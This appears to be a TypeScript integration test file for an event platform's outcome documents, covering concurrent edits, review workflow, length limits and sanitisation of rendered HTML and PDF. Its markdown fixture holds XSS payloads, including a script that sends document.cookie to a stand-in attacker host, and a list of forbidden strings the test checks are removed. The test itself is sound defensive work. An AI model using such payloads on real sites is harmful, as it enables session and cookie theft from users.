import { useApp } from '../support/context';
import { createPublishedEvent, createUser, expectStatus, TestUser } from '../support/factories';
import { createOutcome, download, editOutcome, outcomeStep } from '../support/outcomes';
import { pdfText } from '../support/pdf';

const hostile = `# Statement

Before <script>alert('stolen')</script> after.

<img src=x onerror=alert(1)>

[x](javascript:alert(1)) and [the record](https://www.unodc.org/)

<script>
document.location = 'https://evil.example/' + document.cookie
</script>
`;

/** Two rapporteurs at one event, and what a document's text may not smuggle into the page or the PDF. */
describe('Editing outcome documents', () => {
  const ctx = useApp();
  let organiser: TestUser;
  let rapporteurs: TestUser[];
  let eventId: string;

  beforeAll(async () => {
    const api = ctx.app.api;
    organiser = await createUser(api, 'organiser');
    rapporteurs = [await createUser(api, 'member', 'First rapporteur'), await createUser(api, 'member', 'Second rapporteur')];
    eventId = (await createPublishedEvent(organiser.api)).id;
    for (const rapporteur of rapporteurs)
      expectStatus(
        await organiser.api.put(`/events/${eventId}/roles`, { email: rapporteur.email, role: 'rapporteur' }),
        200,
        'grant rapporteur',
      );
  });

  it('two rapporteurs saving from the same base version at once: one gets 201, the other 409 VERSION_CONFLICT', async () => {
    for (let round = 0; round < 5; round++) {
      const document = await createOutcome(rapporteurs[0].api, eventId);
      const answers = await Promise.all(
        rapporteurs.map((rapporteur, index) =>
          rapporteur.api.post(`/outcomes/${document.id}/versions`, { body: `Text by rapporteur ${index + 1}\n`, baseVersion: 1 }),
        ),
      );
      expect(answers.map((answer) => answer.status).sort()).toEqual([201, 409]);
      const conflict = answers.find((answer) => answer.status === 409)!;
      expect(conflict.body).toMatchObject({ code: 'VERSION_CONFLICT', currentVersion: 2 });
      const versions = await rapporteurs[0].api.get(`/outcomes/${document.id}/versions`);
      expect(versions.body.map((version: any) => version.number)).toEqual([1, 2]);
    }
  });

  it('a stale base version is refused, a current one accepted; a document under review is not edited; organisers return it with a comment', async () => {
    const document = await createOutcome(rapporteurs[0].api, eventId);
    await editOutcome(rapporteurs[0].api, document.id, 1, 'Second text\n');
    await expect(
      rapporteurs[1].api.post(`/outcomes/${document.id}/versions`, { body: 'Overwrite\n', baseVersion: 1 }),
    ).resolves.toMatchObject({ status: 409, body: { code: 'VERSION_CONFLICT', currentVersion: 2 } });
    await outcomeStep(rapporteurs[1].api, document.id, 'submit');
    await expect(
      rapporteurs[1].api.post(`/outcomes/${document.id}/versions`, { body: 'During review\n', baseVersion: 2 }),
    ).resolves.toMatchObject({ status: 409, body: { code: 'DOCUMENT_NOT_EDITABLE' } });
    const returned = await outcomeStep(organiser.api, document.id, 'return', { comment: 'Please add the frameworks.' });
    expect(returned).toMatchObject({ status: 'draft', reviewComment: 'Please add the frameworks.' });
    await expect(rapporteurs[1].api.post(`/outcomes/${document.id}/publish`)).resolves.toMatchObject({ status: 403 });
    await expect(organiser.api.post(`/outcomes/${document.id}/withdraw`)).resolves.toMatchObject({
      status: 409,
      body: { code: 'INVALID_STATUS_CHANGE', status: 'draft' },
    });
  });

  it('a 200,000-character body is accepted, a longer one refused naming the field', async () => {
    const document = await createOutcome(rapporteurs[0].api, eventId);
    const long = `${'Paragraph of the report. '.repeat(8000)}`.slice(0, 200_000);
    await expect(rapporteurs[0].api.post(`/outcomes/${document.id}/versions`, { body: long, baseVersion: 1 })).resolves.toMatchObject({
      status: 201,
      body: { number: 2 },
    });
    const tooLong = await rapporteurs[0].api.post(`/outcomes/${document.id}/versions`, { body: `${long}x`, baseVersion: 2 });
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.details.map((detail: any) => detail.field)).toEqual(['body']);
  });

  it('script, event handlers and javascript: links are removed from the rendered HTML and the PDF', async () => {
    const document = await createOutcome(rapporteurs[0].api, eventId, { title: 'Hostile statement', body: hostile });
    const draft = await rapporteurs[0].api.get(`/outcomes/${document.id}`);
    await outcomeStep(rapporteurs[0].api, document.id, 'submit');
    await outcomeStep(organiser.api, document.id, 'publish');
    const published = await ctx.app.api.get(`/outcomes/${document.id}`);
    for (const html of [draft.body.html, published.body.html]) {
      expect(html).toContain('<h1>Statement</h1>');
      expect(html).toContain('<a href="https://www.unodc.org/" rel="nofollow noopener">the record</a>');
      for (const forbidden of ['<script', 'alert', 'onerror', '<img', 'javascript:', 'document.cookie'])
        expect(html).not.toContain(forbidden);
      expect(html).toMatch(/<p>Before\s+after\.<\/p>/);
    }
    const pdf = await download(ctx.app.api.baseUrl, `/outcomes/${document.id}/document.pdf`);
    expect(pdf.status).toBe(200);
    const text = pdfText(pdf.body);
    expect(text).toContain('Before after.');
    expect(text).toContain('the record (https://www.unodc.org/)');
    for (const forbidden of ['script', 'alert', 'onerror', 'javascript', 'cookie']) expect(text).not.toContain(forbidden);
  });
});
